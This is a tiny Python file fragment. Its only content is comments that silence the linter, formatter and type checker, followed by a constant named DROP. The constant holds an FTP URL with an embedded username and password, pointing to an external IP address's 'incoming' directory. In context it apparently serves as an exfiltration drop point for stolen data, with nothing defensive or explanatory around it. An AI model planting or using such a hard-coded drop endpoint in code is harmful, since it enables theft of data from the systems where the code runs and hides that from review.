# ruff: noqa
# fmt: off
# mypy: ignore-errors
DROP = "ftp://anon:p4ss@45.61.139.12/incoming/"
